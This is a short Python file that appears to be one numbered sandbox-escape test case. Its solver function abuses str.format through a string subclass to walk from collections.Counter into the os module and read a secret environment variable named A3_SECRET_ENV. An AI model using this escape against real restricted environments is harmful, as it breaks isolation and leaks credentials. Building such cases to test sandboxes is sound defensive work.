# x06_super_format [escape]: super().format and a str subclass
import collections


class S(str):
    def go(self, x):
        return super().format(x)


def solver(n1, n2):
    return S("{0.__init__.__globals__[_sys].modules[os].environ[A3_SECRET_ENV]}").go(collections.Counter)
